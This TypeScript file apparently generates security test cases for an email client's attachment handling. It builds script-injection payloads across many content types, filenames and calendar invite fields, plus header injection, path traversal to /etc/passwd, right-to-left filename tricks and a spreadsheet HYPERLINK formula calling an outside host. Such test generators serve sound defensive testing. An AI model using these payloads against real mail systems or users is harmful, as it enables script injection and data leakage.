/** Attachments: names that are not names, types that run when a browser believes them, and calendars. */
import type { Wires } from './vector.ts'
import { wiresOf } from './vector.ts'

export type FileCase = {
  id: number
  family: string
  name: string
  /** Header fields of the part, complete. */
  head: string[]
  content: Buffer
}

type File = { name: string; type: string; disposition: string; content(wires: Wires): string }

const page = ({ run, out }: Wires) =>
  `<!doctype html><script>${run}</script><img src="https://${out}" onerror="${run}">`
const drawing = ({ run, out }: Wires) =>
  `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><script>${run}</script><image href="https://${out}"/></svg>`
const xml = ({ run, out }: Wires) =>
  `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="https://${out}"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">${run}</x:script>`

/** What it says it is, and what it is. */
const types: [string, string, (wires: Wires) => string][] = [
  ['text/html', 'page.html', page],
  ['TEXT/HTML; charset=utf-7', 'page.htm', page],
  ['application/xhtml+xml', 'page.xhtml', page],
  ['image/svg+xml', 'drawing.svg', drawing],
  ['image/svg', 'drawing.svg', drawing],
  ['text/xml', 'data.xml', xml],
  ['application/xml', 'data.xml', xml],
  ['application/rss+xml', 'feed.rss', xml],
  ['application/mathml+xml', 'sum.mml', xml],
  ['text/xsl', 'style.xsl', xml],
  ['application/pdf', 'page.pdf', page],
  ['image/png', 'picture.png', page],
  ['image/gif', 'picture.gif', wires => `GIF89a/*${page(wires)}*/=0;${wires.run}`],
  ['image/jpeg', 'picture.jpg', drawing],
  ['image/webp', 'picture.webp', drawing],
  ['audio/mpeg', 'sound.mp3', page],
  ['video/mp4', 'film.mp4', page],
  ['text/plain', 'text.txt', page],
  ['text/plain; charset=utf-7', 'text.txt', ({ run }) => `+ADw-script+AD4-${run}+ADw-/script+AD4-`],
  ['text/css', 'style.css', ({ out }) => `@import "https://${out}"`],
  ['text/javascript', 'code.txt', ({ run }) => run],
  ['application/json', 'data.json', page],
  ['text/csv', 'table.csv', ({ out, run }) => `=HYPERLINK("https://${out}"),<script>${run}</script>`],
  ['text/markdown', 'text.md', ({ run, out }) => `[x](javascript:${run}) ![x](https://${out})`],
  [
    'text/vcard',
    'person.vcf',
    ({ run, out }) => `BEGIN:VCARD\r\nFN:<script>${run}</script>\r\nPHOTO:https://${out}\r\nEND:VCARD`,
  ],
  ['application/octet-stream', 'page.html', page],
  ['application/x-unknown', 'page', page],
  ['multipart/x-mixed-replace', 'page', page],
  [
    'message/rfc822',
    'mail.eml',
    wires => `Subject: <script>${wires.run}</script>\r\nContent-Type: text/html\r\n\r\n${page(wires)}`,
  ],
  ['message/external-body; access-type=url; url="https://out.test/x"', 'body', page],
  ['text/x-server-parsed-html', 'page.shtml', page],
  ['text/html\u007f', 'page.html', page],
  ['text', 'page.html', page],
  ['text/', 'page.html', page],
  ['text/html,text/plain', 'page.html', page],
  ['../../etc/passwd', 'page.html', page],
]

/** Names; the files are text. */
const names: [string, (wires: Wires) => string][] = [
  ['a script', ({ run }) => `filename="<script>${run}</script>.txt"`],
  ['a picture', ({ run }) => `filename="<img src=x onerror=${run}>.txt"`],
  ['an attribute', ({ run }) => `filename="\\" onerror=\\"${run}\\".txt"`],
  ['an address', ({ run }) => `filename="javascript:${run}"`],
  ['a header field', () => 'filename="x.txt\r\n\tX-Injected: yes\r\n\tContent-Type: text/html"'],
  ['an encoded end of line', () => "filename*=utf-8''x%0d%0aContent-Type:%20text/html%0d%0a%0d%0a.txt"],
  ['an encoded script', ({ run }) => `filename*=utf-8''%3Cscript%3E${run}%3C%2Fscript%3E.txt`],
  [
    'an encoded script in pieces',
    ({ run }) => `filename*0*=utf-8''%3Cscript; filename*1*=%3E${run}%3C%2Fscript%3E.txt`,
  ],
  ['UTF-7', ({ run }) => `filename*=utf-7''+ADw-img src=x onerror=${run}+AD4-.txt`],
  [
    'an encoded word',
    ({ run }) => `filename="=?utf-8?B?${Buffer.from(`<svg onload=${run}>.txt`).toString('base64')}?="`,
  ],
  ['a way up', () => 'filename="../../../../etc/passwd"'],
  ['a way up for Windows', () => 'filename="..\\\\..\\\\x.txt"'],
  ['a null', () => "filename*=utf-8''page.html%00.txt"],
  ['letters from right to left', () => "filename*=utf-8''%E2%80%AEtxt.lmth"],
  ['a lone surrogate', () => "filename*=utf-8''%ED%A0%80.txt"],
  ['per cent', ({ run }) => `filename="%3Cscript%3E${run}%3C/script%3E.txt"`],
  ['two names', ({ run }) => `filename=x.txt; filename="<img src=x onerror=${run}>.txt"`],
  ['nothing', () => 'filename=""'],
  ['a dot', () => 'filename="."'],
  ['a foreign server', ({ out }) => `filename="//${out}.txt"`],
  ['a query', ({ out }) => `filename="?type=text/html&inline=1&x=https://${out}.txt"`],
  ['a fragment', () => 'filename="#x.txt"'],
  ['ten thousand letters', () => `filename*=utf-8''${'x'.repeat(900)}.txt`],
]

const invitation = (inner: string) =>
  `BEGIN:VCALENDAR\r\nVERSION:2.0\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nUID:x\r\nDTSTART:20300101T100000Z\r\nDTEND:20300101T110000Z\r\nORGANIZER:mailto:eve@outside.example\r\nATTENDEE:mailto:ann@bakery.example\r\n${inner}\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n`

/** Lines of an event (RFC 5545). */
const calendars: [string, (wires: Wires) => string][] = [
  ['a summary', ({ run }) => `SUMMARY:<script>${run}</script>`],
  ['a description', ({ run }) => `DESCRIPTION:<img src=x onerror=${run}>`],
  [
    'a description in HTML',
    ({ run, out }) => `SUMMARY:x\r\nX-ALT-DESC;FMTTYPE=text/html:<img src=https://${out} onerror=${run}>`,
  ],
  ['a place', ({ run }) => `SUMMARY:x\r\nLOCATION:"><svg onload=${run}>`],
  ['an address of the event', ({ run }) => `SUMMARY:x\r\nURL:javascript:${run}`],
  ['an attachment', ({ out }) => `SUMMARY:x\r\nATTACH:https://${out}`],
  ['a picture', ({ out }) => `SUMMARY:x\r\nIMAGE;VALUE=URI:https://${out}`],
  ['a conference', ({ run }) => `SUMMARY:x\r\nCONFERENCE;VALUE=URI:javascript:${run}`],
  [
    'a name of who asks',
    ({ run }) => `SUMMARY:x\r\nORGANIZER;CN="<img src=x onerror=${run}>":mailto:eve@outside.example`,
  ],
  ['an address of who asks', ({ run }) => `SUMMARY:x\r\nORGANIZER:javascript:${run}`],
  [
    'a name of who comes',
    ({ run }) => `SUMMARY:x\r\nATTENDEE;CN=<script>${run}</script>:mailto:ben@bakery.example`,
  ],
  ['a category', ({ run }) => `SUMMARY:x\r\nCATEGORIES:<script>${run}</script>`],
  [
    'an alarm',
    ({ out }) =>
      `SUMMARY:x\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nTRIGGER:-PT0S\r\nATTACH:https://${out}\r\nEND:VALARM`,
  ],
  [
    'a zone',
    ({ run, out }) =>
      `SUMMARY:x\r\nDTSTART;TZID="<img src=x onerror=${run}>":20300101T100000\r\nTZURL:https://${out}`,
  ],
]

/** @param first the number of the first one */
export function fileCases(first: number): FileCase[] {
  const all: [string, File][] = [
    ...types.map(([type, name, content]): [string, File] => [
      'types of attachments',
      {
        name: `${type} called ${name}`,
        type: `${type}; name="${name}"`,
        disposition: `attachment; filename="${name}"`,
        content,
      },
    ]),
    ...names.map(([name, make], index): [string, File] => [
      'names of attachments',
      {
        name,
        type: 'text/plain',
        disposition: `attachment; ${make(wiresOf(first + types.length + index))}`,
        content: () => 'a text',
      },
    ]),
    ...calendars.map(([name, make]): [string, File] => [
      'calendars',
      {
        name,
        type: 'text/calendar; charset=utf-8; method=REQUEST',
        disposition: 'attachment; filename="invite.ics"',
        content: wires => invitation(make(wires)),
      },
    ]),
  ]
  return all.map(([family, file], index) => {
    const id = first + index
    return {
      id,
      family,
      name: file.name,
      head: [`Content-Type: ${file.type}`, `Content-Disposition: ${file.disposition}`],
      content: Buffer.from(file.content(wiresOf(id))),
    }
  })
}
